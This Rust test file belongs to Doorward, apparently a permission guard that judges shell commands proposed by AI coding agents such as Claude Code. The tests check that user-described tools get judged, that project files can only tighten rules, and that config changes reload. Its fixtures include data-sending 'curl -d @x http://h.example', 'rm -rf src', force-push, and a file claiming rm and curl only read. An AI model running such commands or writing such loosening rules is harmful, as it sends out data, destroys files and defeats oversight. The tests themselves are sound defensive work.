//! Programs of one's own: described in a file that the settings name, and judged by it; a project can't make anything
//! milder that way; a changed file counts within a second; a broken one is said, and its program stays unknown.

use std::fs;
use std::io::Write as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::{Bench, DOORWARD};
use serde_json::{Value, json};

const MYTOOL: &str = r#"program mytool {
    source "mytool --help" version="2.1" read="2026-11-23"
    options {
        -q --quiet
    }
    command list {
        does reads
        operands look*
    }
    command purge {
        operand "0.." delete recursive=always
    }
    examples {
        "mytool list src" "look src; read-only"
        "mytool purge src" "delete-r src"
    }
}
"#;
/// Says of everything that it only reads.
const MILD: &str = r#"program mytool othertool rm git curl {
    source "nobody" version="1" read="2026-11-23"
    parse raw
    does reads
    operands data*
}
"#;
const ASKED: &str = "REQUIRE_USER_CONFIRMATION";

/// A bench whose user described `mytool` in a file below the home folder.
fn described(text: &str) -> Bench {
    let bench = Bench::new("");
    let file = bench.home().join("mytool.kdl");
    fs::write(&file, text).unwrap();
    let settings = format!("[knowledge]\nfiles = [{:?}]\n", file.display().to_string());
    fs::write(bench.state().join("doorward.toml"), settings).unwrap();
    bench
}

fn said(bench: &Bench, words: &[&str]) -> (i32, String) {
    let state = bench.state().display().to_string();
    bench.doorward(&[words, &["--state", &state]].concat())
}

fn checked(bench: &Bench, command: &str) -> Value {
    let (_, text) = said(bench, &["check", "--json", "--command", command]);
    serde_json::from_str(&text).unwrap_or_else(|error| panic!("{error}: {text}"))
}

fn decided(bench: &Bench, command: &str) -> String {
    let body = json!({"principal": {"id": "u"}, "action": "tool:execute",
        "resource": {"type": "tool", "name": "shell:execute", "attributes": {"args": {"command": command}}},
        "context": {"cwd": bench.project(), "roots": [bench.project()], "session_id": "s"}});
    let answer = bench.ask("POST", "/v1/decide", &body);
    answer["decision"].as_str().unwrap_or_else(|| panic!("{answer}")).to_owned()
}

#[test]
fn an_unknown_tool_asks_and_a_described_one_is_judged_by_its_row() {
    let bench = Bench::new("");
    for command in ["mytool list src", "mytool purge src"] {
        assert_eq!(checked(&bench, command)["decision"], ASKED, "{command}");
    }
    let bench = described(MYTOOL);
    fs::create_dir(bench.project().join("src")).unwrap();
    fs::write(bench.project().join("src/letters.txt"), "a letter\n").unwrap();
    for (command, decision) in [
        ("mytool list src", "ALLOW"),
        ("sudo mytool list src", ASKED),
        ("env -i mytool -q list src", "ALLOW"),
        ("mytool purge src", ASKED),
        ("mytool list --undocumented src", ASKED),
        ("mytool polish src", ASKED),
        ("mytool list src > out.txt", ASKED),
        ("./mytool list src", ASKED),
    ] {
        let answer = checked(&bench, command);
        assert_eq!(answer["decision"], decision, "{command}: {answer}");
    }
    let answer = checked(&bench, "mytool purge src");
    assert_eq!(answer["security_warning"]["level"], "CRITICAL", "{answer}");
}

/// What Claude Code is told of a command in the project.
fn hooked(bench: &Bench, command: &str) -> String {
    let event = json!({"session_id": "s", "hook_event_name": "PreToolUse", "cwd": bench.project(),
        "tool_name": "Bash", "permission_mode": "default", "tool_input": {"command": command}, "tool_use_id": "t"});
    let (code, out, err) = bench.hook("claude-code", &event.to_string(), &[]);
    let answer: Value = serde_json::from_str(&out).unwrap_or_default();
    let said = &answer["hookSpecificOutput"];
    format!("{code} {} {}{err}", said["permissionDecision"], said["permissionDecisionReason"])
}

#[test]
fn a_project_cant_loosen() {
    let mut bench = described(MYTOOL);
    bench.serve();
    let before: Vec<String> = COMMANDS.iter().map(|command| hooked(&bench, command)).collect();
    let settings = bench.project().join("doorward.toml");
    fs::write(bench.project().join("mild.kdl"), MILD).unwrap();
    fs::write(&settings, "[knowledge]\nfiles = [\"mild.kdl\"]\n").unwrap();
    let (code, text) = said(&bench, &["config", "check"]);
    assert!(code == 2 && text.contains("settings.loosens"), "{code} {text}");
    fs::write(&settings, "[knowledge]\nstricter = [\"mild.kdl\"]\n").unwrap();
    let (code, text) = said(&bench, &["config", "check"]);
    assert_eq!(code, 0, "{text}");
    std::thread::sleep(Duration::from_secs(1));
    for (command, before) in COMMANDS.iter().zip(&before) {
        assert_eq!(hooked(&bench, command), *before, "{command}");
    }
    // A file of the project counts where it makes stricter.
    let strict = MYTOOL.replace("does reads\n", "finding remote_code \"runs what it lists\"\n");
    fs::write(bench.project().join("mild.kdl"), strict).unwrap();
    std::thread::sleep(Duration::from_secs(1));
    let after = hooked(&bench, "mytool list src");
    assert!(
        !before[0].contains("ask") && after.contains("ask") && after.contains("Runs what it lists"),
        "{after}"
    );
    // It can't replace what is known, nor lie outside of the project.
    let replacing = MILD.replace("parse raw", "replaces shipped\n    parse raw");
    for (text, named, says) in [
        (replacing.as_str(), "mild.kdl", "`replaces` can't be said here"),
        (MILD, "../project/mild.kdl", "mild.kdl: "),
        (MILD, "/etc/passwd", "relative to the project"),
        (MILD, "~/mytool.kdl", "relative to the project"),
    ] {
        fs::write(bench.project().join("mild.kdl"), text).unwrap();
        fs::write(&settings, format!("[knowledge]\nstricter = [{named:?}]\n")).unwrap();
        let (code, text) = said(&bench, &["config", "check"]);
        assert!(code == 2 && text.contains("settings.knowledge") && text.contains(says), "{named}: {text}");
    }
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(hooked(&bench, "rm -rf src"), before[3]);
}

const COMMANDS: &[&str] = &[
    "mytool list src",
    "mytool purge src",
    "othertool go",
    "rm -rf src",
    "git push --force",
    "curl -d @x http://h.example",
];

#[test]
fn a_changed_file_counts_within_a_second_and_a_broken_one_is_said() {
    let mut bench = described(MYTOOL);
    bench.serve();
    let file = bench.home().join("mytool.kdl");
    let within_a_second = |text: &str, decision: &str| {
        fs::write(&file, text).unwrap();
        let until = Instant::now() + Duration::from_secs(1);
        while decided(&bench, "mytool list src") != decision {
            assert!(Instant::now() < until, "still not {decision}");
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    assert_eq!(decided(&bench, "mytool list src"), "ALLOW");
    within_a_second(&MYTOOL.replace("does reads", "contacts-unknown send"), ASKED);
    within_a_second(MYTOOL, "ALLOW");
    within_a_second(&MYTOOL.replace("does reads", "does raeds"), ASKED);
    let (code, text) = said(&bench, &["config", "check"]);
    for part in ["settings.knowledge", "mytool.kdl:7", "did you mean `reads`?"] {
        assert!(code == 2 && text.contains(part), "{part}: {code} {text}");
    }
    let (code, text) = said(&bench, &["doctor"]);
    assert!(code == 1 && text.contains("mytool.kdl:7"), "{code} {text}");
    fs::remove_file(&file).unwrap();
    assert_eq!(decided(&bench, "mytool list src"), ASKED);
}

#[test]
fn no_call_may_change_the_file() {
    let bench = described(MYTOOL);
    let file = bench.home().join("mytool.kdl").display().to_string();
    for command in [format!("echo x >> {file}"), format!("rm {file}"), format!("mv /tmp/x {file}")] {
        let answer = checked(&bench, &command);
        assert_eq!(answer["decision"], "DENY", "{command}: {answer}");
    }
}

#[test]
fn check_show_and_draft() {
    let bench = described(MYTOOL);
    let file = bench.home().join("mytool.kdl");
    let path = file.display().to_string();
    let (code, text) = bench.doorward(&["knowledge", "check", &path]);
    assert!(code == 0 && text.contains("1 programs, 2 examples: good"), "{code} {text}");
    fs::write(&file, MYTOOL.replace("\"delete-r src\"", "\"read-only\"")).unwrap();
    let (code, text) = bench.doorward(&["knowledge", "check", &path]);
    for part in ["mytool.kdl:15: mytool purge src", "expected read-only", "found    delete-r src"] {
        assert!(code == 2 && text.contains(part), "{part}: {code} {text}");
    }
    fs::write(&file, MYTOOL).unwrap();
    let (code, text) = said(&bench, &["knowledge", "show", "mytool"]);
    assert!(code == 0 && text.contains("mytool.kdl:1, is the judgement"), "{code} {text}");
    let (code, text) = said(&bench, &["knowledge", "show", "docker"]);
    assert!(
        code == 0 && text.contains("shipped with Doorward") && text.contains("--volume"),
        "{code} {text}"
    );
    let (code, text) = said(&bench, &["knowledge", "show", "nothing-such"]);
    assert!(code == 2 && text.contains("knowledge draft nothing-such"), "{code} {text}");

    let help = "Commands:\n  list   Show\n  purge  Delete\n\nOptions:\n  -o, --output <FILE>  Where to\n  -q, --quiet\n";
    let mut child = Command::new(DOORWARD)
        .args(["knowledge", "draft", "drafted", "--from", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(help.as_bytes()).unwrap();
    let draft = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
    assert!(draft.contains("-o --output value=write") && !draft.contains("reads"), "{draft}");
    fs::write(&file, &draft).unwrap();
    let (code, text) = bench.doorward(&["knowledge", "check", &path]);
    assert!(code == 0 && text.contains("1 programs, 2 examples: good"), "{code} {text}\n{draft}");
    for command in ["drafted list", "drafted purge src", "drafted -q list", "drafted"] {
        assert_eq!(checked(&bench, command)["decision"], ASKED, "{command}");
    }
    let (_, text) = bench.doorward(&["completions", "bash"]);
    assert!(
        text.contains("doorward__subcmd__knowledge") || text.contains("doorward__knowledge"),
        "no completions"
    );
    let (_, text) = bench.doorward(&["help"]);
    assert!(text.contains("knowledge"), "{text}");
}
